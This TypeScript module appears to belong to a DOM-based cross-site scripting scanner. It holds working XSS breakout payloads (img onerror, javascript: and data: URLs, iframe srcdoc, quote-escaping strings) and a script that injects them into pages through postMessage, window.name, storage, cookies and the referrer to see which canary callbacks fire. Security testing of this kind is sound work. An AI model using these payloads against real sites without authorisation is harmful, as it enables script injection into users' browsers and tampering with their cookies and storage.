// Texts that run a call of ours by whichever way a page's script uses them: written as markup, followed as a URL, or run as code.
import type { DomSink, DomSource } from "./page-scripts.ts";

/** needs: only where a script can do this; without it everywhere. */
export interface DomPayload { technique: string; needs?: DomSink; make(call: string): string }

/** Few, each for many ways: loading a page in a browser is dear. */
export const domPayloads: readonly DomPayload[] = [
  // Closes what markup it may be written into: attributes, comments, raw text, script.
  { technique: "markup", needs: "markup", make: (call) => `x'"></title></textarea></style></script>--><img src onerror=${call}>` },
  // A URL; and, as code, a label before a call.
  { technique: "url-or-code", make: (call) => `javascript:${call}` },
  { technique: "source", needs: "source", make: (call) => `data:text/javascript,${call}` },
  // Frameworks that clean markup let frames of their own making through.
  { technique: "frame", needs: "markup", make: (call) => `<iframe src="javascript:parent.${call}"></iframe><iframe srcdoc="&lt;img src onerror=parent.${call}&gt;"></iframe>` },
  { technique: "code-in-single-quotes", needs: "code", make: (call) => `'-${call}-'` },
  { technique: "code-in-double-quotes", needs: "code", make: (call) => `"-${call}-"` },
];

/** Shapes in which a page may expect the text in the fragment: bare, and behind each name that its scripts know. */
export const fragmentsOf = (text: string, names: readonly string[]): string[] => [text, ...(names.length === 0 ? [] : [names.map((name) => `${name}=${encodeURIComponent(text)}`).join("&")])];

/** The fragments of a router: each of its pages with the text in each parameter. */
export const routedFragments = (text: string, { names, paths }: { names: readonly string[]; paths: readonly string[] }): string[] => (names.length === 0 ? [] : paths.map((path) => `/${path}?${names.map((name) => `${name}=${encodeURIComponent(text)}`).join("&")}`));

/** The address with the text in each parameter that it has or that scripts look up. */
export function withQuery(address: string, text: string, names: readonly string[]): string {
  const url = new URL(address);
  for (const name of new Set([...url.searchParams.keys(), ...names])) url.searchParams.set(name, text);
  if (url.search === "") url.search = `?${encodeURIComponent(text)}`;
  return url.href;
}

/** What runs in the page and gives the text to it by the other ways in. Frames of the page itself are shown it by name, referrer, storage and cookie; messages come from an origin that is nobody's. */
export const deliver = (token: string, { sources, names, texts }: { sources: readonly DomSource[]; names: readonly string[]; texts: readonly string[] }): string => `(async () => {
  const hits = new Set();
  const sources = ${JSON.stringify(sources)}, names = ${JSON.stringify(names)}, texts = ${JSON.stringify(texts)};
  for (const source of ["name", "referrer", "message", "storage", "cookie"]) self[${JSON.stringify(token)} + source] = () => { hits.add(source); };
  const textFor = (source, text) => text.replaceAll(${JSON.stringify(token)}, "top." + ${JSON.stringify(token)} + source);
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const frame = (set) => new Promise((done) => { const one = document.createElement("iframe"); one.style.cssText = "width:300px;height:200px"; set(one); one.onload = () => done(one); setTimeout(() => done(one), 1500); document.documentElement.append(one); });
  const address = location.href.split("#")[0];
  for (const text of texts) {
    if (sources.includes("message")) {
      const said = textFor("message", text);
      const shapes = [said, ...names.map((name) => ({ [name]: said })), Object.fromEntries(names.map((name) => [name, said])), JSON.stringify(Object.fromEntries(names.map((name) => [name, said])))];
      const script = "for (const one of " + JSON.stringify(shapes) + ") parent.postMessage(one, '*')";
      await frame((one) => { one.sandbox = "allow-scripts"; one.srcdoc = "<script>" + script.replaceAll("<", "\\\\u003c") + "</" + "script>"; });
      await wait(120);
    }
    if (sources.includes("name")) { await frame((one) => { one.name = textFor("name", text); one.src = address; }); await wait(120); }
    if (sources.includes("storage") || sources.includes("cookie")) {
      const kept = [];
      for (const store of [localStorage, sessionStorage]) for (const name of new Set([...Object.keys(store), ...names])) { kept.push([store, name, store.getItem(name)]); store.setItem(name, textFor("storage", text)); }
      const cookies = document.cookie;
      if (sources.includes("cookie")) for (const name of new Set([...cookies.split(/; */).map((one) => one.split("=")[0]).filter(Boolean), ...names])) document.cookie = name + "=" + textFor("cookie", text).replaceAll(";", "%3B");
      await frame((one) => { one.src = address; });
      await wait(120);
      for (const [store, name, value] of kept) { if (value === null) store.removeItem(name); else store.setItem(name, value); }
    }
  }
  if (sources.includes("referrer")) for (const text of texts) { history.replaceState(null, "", address + (address.includes("?") ? "&" : "?") + textFor("referrer", text)); await frame((one) => { one.src = address; }); await wait(120); }
  for (let waited = 0; waited < 1200 && hits.size < sources.length; waited += 60) await wait(60);
  return [...hits];
})()`;
